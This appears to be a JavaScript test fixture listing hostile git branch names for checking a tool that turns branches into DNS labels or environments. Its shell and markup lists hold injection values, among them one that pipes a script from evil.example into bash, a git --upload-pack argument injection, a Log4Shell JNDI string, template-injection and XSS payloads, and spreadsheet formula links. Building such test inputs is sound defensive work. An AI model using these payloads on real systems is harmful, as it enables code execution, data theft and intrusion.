const LONG = [63, 64, 250, 300].map((length) => 'b'.repeat(length));

/** Names that a careless rule makes equal, empty, too long or no DNS label. */
const LABELS = [
  'new_cool_page',
  'new-cool-page',
  'New_Cool_Page',
  'new/cool/page',
  'new.cool.page',
  'new--cool--page',
  'feature/new_cool_page',
  'feature/new-cool-page',
  'feature/K8s',
  'feature/\u212A8s',
  'feature/k8s',
  'caf\u00e9',
  'cafe\u0301',
  '\u0430dmin',
  '日本語',
  '🚀',
  '🔥',
  '12345',
  '1-fix',
  'xn--80ak6aa92e',
  'ab--cd',
  ...LONG,
  'feature/very-long-name-for-checkout-a',
  'feature/very-long-name-for-checkout-b',
  'abcdefghijklmnopqrstuvwxyz1-/-zzz',
  'feat\u200Bure/x',
  'feat/\u202Egnp.exe',
  'a\u00A0b',
  'a\u2028b',
  '\u0085',
  '\ud800',
  '\ud801',
  '',
  '*',
  '-',
  '.',
  'a.',
  'a/',
  '/a',
  'a//b',
  'a/.b',
  'x.lock',
  'x.lock/y',
  'a..b',
  'a@{b',
];

/** Names that people or machines would mistake for something else. */
export const RESERVED_BRANCHES = [
  'production',
  'prod',
  'staging',
  'shared-staging',
  'main',
  'master',
  'www',
  'api',
  'admin',
  'localhost',
  'mail',
  'ns1',
  'autodiscover',
];

const SPECIAL = [
  '_acme-challenge',
  '_dmarc',
  'HEAD',
  '@',
  'refs/heads/main',
  '0123456789abcdef0123456789abcdef01234567',
];

/** Names that a shell or a program's options would take for commands. */
const SHELL = [
  '$(id)',
  '`id`',
  ';reboot;',
  'a|id',
  'a&&id',
  "a';DROP",
  '$({curl,-sSfL,evil.example/x.sh}${IFS}|${IFS}bash)',
  'zzz";echo${IFS}"hello";#',
  'feature/${HOME}',
  '!!',
  'a,b',
  '-rf',
  '--upload-pack=touch${IFS}/tmp/pwn',
  '---',
  'a\nb',
  'a\rb',
  'a\tb',
  'a\0b',
  'a b',
];

/** Names that a template, a page, a log or a spreadsheet would take for its own language. */
const MARKUP = [
  "{{constructor.constructor('return(process)')()}}",
  "States.Format('{}',$$.Execution.Input)",
  '$.x',
  '{%$states.context%}',
  '<script>alert(1)</script>',
  '<img/src=x/onerror=alert(1)>',
  '%00',
  'x%0aid',
  '{{7*7}}',
  '${AWS::AccountId}',
  '{{resolve:secretsmanager:prod/db:SecretString:password}}',
  '](javascript:alert(1))',
  '${jndi:ldap://evil/x}',
  '=HYPERLINK("http://evil","x")',
  '@SUM(1+1)*cmd|calc',
  '\x1b[2J',
  '\x1b]8;;http://evil\x07',
  '%0d%0aSet-Cookie:x',
];

/** Names that other parts of the table or of JavaScript use as keys. */
const KEYS = ['__proto__', 'constructor', 'toString', 'ENV#prod', 'branch#x', 'tenant|prod', 'arn:aws:rds'];

/** Branch names that broke other people's tools, legal for git or not. */
export const HOSTILE_BRANCHES = [...LABELS, ...RESERVED_BRANCHES, ...SPECIAL, ...SHELL, ...MARKUP, ...KEYS];
